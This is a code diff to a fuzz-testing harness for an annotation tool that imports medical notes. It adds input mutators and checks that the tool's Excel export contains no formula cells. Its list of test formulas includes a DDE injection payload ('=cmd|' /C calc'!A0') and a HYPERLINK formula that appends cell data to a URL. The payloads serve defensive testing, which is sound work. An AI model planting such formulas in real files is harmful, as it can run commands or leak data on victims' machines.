@@ -16,6 +16,7 @@ from pathlib import Path
 
 from engine.importing import import_files
 from engine.storage import Repository
+from engine.text import looks_like_notes
 
 NOTES = ["রোগী: করিম\nবয়স: ৪৫ বছর", "তিন দিন ধরে জ্বর ও মাথা ব্যথা", "নাপা ৫০০ মিগ্রা দিনে ৩ বার খাবেন",
          "Patient has fever, cough; Napa 500 mg"]
@@ -218,6 +219,76 @@ def _xlsx_part(data: bytes, rng: random.Random) -> bytes:
     return out.getvalue()
 
 
+FORMULAS = ["=1+1", '=HYPERLINK("http://example.org/?"&C2)', "+SUM(A1)", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]
+
+
+def _formula_names(data: bytes, rng: random.Random) -> bytes:
+    """An entity type and a metadata key (a JSON field, a CSV header) that a spreadsheet would run as a formula."""
+    text = data.decode("utf-8", "replace")
+    formula = rng.choice(FORMULAS)
+    if text.lstrip().startswith(("{", "[")):  # JSON: a type, and a field that becomes metadata
+        quoted = json.dumps(formula)[1:-1]
+        text = re.sub(r"Symptom|Medicine|Dosage", lambda m: quoted if rng.random() < 0.5 else m.group(), text)
+        text = re.sub(r'\{"text"', lambda m: '{' + json.dumps(formula) + ': "x", "text"', text, count=3)
+        return text.encode()
+    if text.startswith("id,"):  # CSV: a header cell
+        return ('"' + formula.replace('"', '""') + '"' + text[2:]).encode()
+    return re.sub(r"Symptom|Medicine|Dosage", lambda m: formula, text, count=2).encode()
+
+
+def _wide_row(data: bytes, rng: random.Random) -> bytes:
+    """A CSV row of about 20,000 cells (past Excel's 16,384 columns), with a header as wide."""
+    width = rng.choice([16_385, 20_000, 40_000])
+    lines = data.decode("utf-8", "replace").split("\n")
+    lines[0] += "".join(f",c{i}" for i in range(width))
+    if len(lines) > 1:
+        lines[1] += ",x" * width
+    return "\n".join(lines).encode()
+
+
+def _nul_header(data: bytes, rng: random.Random) -> bytes:
+    """A byte-order mark, then a NUL (or another control character) inside the header."""
+    text = data.decode("utf-8", "replace")
+    head, sep, rest = text.partition("\n")
+    pos = rng.randrange(len(head) + 1)
+    head = head[:pos] + rng.choice(["\x00", "\x00\x00", "\x01", "\x0b"]) + head[pos:]
+    return "\ufeff".encode() + (head + sep + rest).encode()
+
+
+def _empty_labels(data: bytes, rng: random.Random) -> bytes:
+    """doccano lines whose label list is empty (an example nobody labelled yet)."""
+    lines = []
+    for line in data.decode("utf-8", "replace").split("\n"):
+        try:
+            item = json.loads(line)
+        except ValueError:
+            lines.append(line)
+            continue
+        if isinstance(item, dict) and rng.random() < 0.7:
+            item[rng.choice(["label", "label", "entities"]) if "label" in item else "label"] = []
+            item.pop("label", None) if rng.random() < 0.2 else None
+        lines.append(json.dumps(item, ensure_ascii=False))
+    return "\n".join(lines).encode()
+
+
+def _long_line(data: bytes, rng: random.Random) -> bytes:
+    """One note on one line of about 2 MB (under the 1,000,000-character limit), an entity every 8 characters."""
+    unit = "কাশি ও, "  # 8 characters, 20 bytes
+    text = unit * (rng.choice([1_990_000, 1_000_000]) // len(unit.encode()))
+    if not data.lstrip().startswith(b"{"):
+        return text.encode()
+    spans = [[i, i + 4, "Symptom"] for i in range(0, len(text), 8)]
+    return json.dumps({"text": text, "label": spans}, ensure_ascii=False).encode() + b"\n"
+
+
+def _bom_garbage(data: bytes, rng: random.Random) -> bytes:
+    """A UTF-16 (or UTF-8) byte-order mark, then bytes that are no text at all."""
+    size = rng.choice([64, 4_096, 200_000])
+    junk = bytes(rng.randrange(256) for _ in range(size))
+    bom = rng.choice([b"\xff\xfe", b"\xfe\xff", b"\xff\xfe", b"\xef\xbb\xbf"])
+    return bom + junk
+
+
 def mutate(fmt: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
     """One mutant of ``data``: ``(what was done, bytes)``."""
     textual = [("flip", _flip), ("truncate", _truncate), ("huge line", _huge_line), ("deep nesting", _deep),
@@ -230,6 +301,14 @@ def mutate(fmt: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
         textual += [("bad label", _bad_label)] * 2
     if fmt == "brat":
         textual += [("bad offsets", _brat_offsets)] * 3 + [("bad label", _bad_label)] * 2
+    if fmt != "xlsx":
+        textual += [("formula names", _formula_names), ("bom garbage", _bom_garbage)]
+    if fmt in ("csv", "txt"):
+        textual += [("wide row", _wide_row), ("nul header", _nul_header)]
+    if fmt in ("doccano", "txt"):
+        textual += [("long single line", _long_line)]
+    if fmt == "doccano":
+        textual += [("empty labels", _empty_labels)] * 2
     if fmt == "xlsx":
         textual = [("flip", _flip), ("truncate", _truncate)] + [("bad xml part", _xlsx_part)] * 6
     name, fn = rng.choice(textual)
@@ -327,6 +406,12 @@ def check_import(path: Path, fmt: str, data: bytes, good: list[Path], repo: Repo
             raise Wrong(f"a reader failed unexpectedly: {batch.errors[0]}")
     elif not mine:
         raise Wrong("no documents and no error: dropped silently")
+    if mine and data[:2] in (b"\xff\xfe", b"\xfe\xff") and not looks_like_notes(
+            data.decode("utf-16", "replace"), expected_share=0.5):
+        raise Wrong(f"{len(mine)} document(s) imported from bytes that are no text behind a byte-order mark")
+    if fmt == "doccano":
+        _check_unlabelled(mine, data)
+    _check_excel_export(mine, path)
     for origin in ("model", "human"):
         items = [(d.title, d.text, d.source, d.entities) for d in batch.documents if d.origin == origin]
         if items:
@@ -335,6 +420,43 @@ def check_import(path: Path, fmt: str, data: bytes, good: list[Path], repo: Repo
             for doc_id, (title, *_rest), noted in zip(ids, items, partial):
                 _check_stored(repo, doc_id, title, fmt, data, path, partial=noted)
     return "error" if batch.errors else "ok"
+
+
+def _check_unlabelled(mine: list, data: bytes) -> None:
+    """A doccano line with an empty label list (and no sign that a person checked it) is never a reviewed note."""
+    lines = data.decode("utf-8-sig", "replace").split("\n")  # the reader numbers lines so, blank ones too
+    for d in mine:
+        if d.reviewed and not d.entities and d.line is not None and d.line <= len(lines):
+            try:
+                item = json.loads(lines[d.line - 1])
+            except ValueError:
+                continue
+            if isinstance(item, dict) and item.get("reviewed") is not True and not item.get("annotation_approver"):
+                raise Wrong(f"{d.title}: a line with an empty label list was stored as reviewed")
+
+
+def _check_excel_export(mine: list, path: Path) -> None:
+    """What was imported exports to Excel (no document blocks it) with no formula cell anywhere. Notes over
+    200,000 characters are left to ``scripts/bench_interop_scaling.py``: Excel writing 100,000 entity rows takes
+    a minute of a shared CPU, and what they could break (names, wide rows) the short mutants cover."""
+    from engine.exporting import export_documents
+    from engine.spans import Document
+
+    mine = [d for d in mine if len(d.text) <= 200_000]
+    if not mine:
+        return
+    out = path.with_name(path.name + ".export.xlsx")
+    try:
+        summary = export_documents([Document(d.text, d.entities, name=d.title, metadata=d.metadata,
+                                             status="annotated" if d.reviewed else "suggested") for d in mine], out)
+        if summary.documents != len(mine):
+            raise Wrong(f"the Excel export wrote {summary.documents} of {len(mine)} documents")
+        with zipfile.ZipFile(out) as zf:
+            formulas = [n for n in zf.namelist() if n.startswith("xl/worksheets/") and re.search(rb"<f[ >]", zf.read(n))]
+        if formulas:
+            raise Wrong(f"the Excel export has formula cells in {formulas}")
+    finally:
+        out.unlink(missing_ok=True)
 
 
 def _check_stored(repo: Repository, doc_id: int, title: str, fmt: str, data: bytes, path: Path, *,
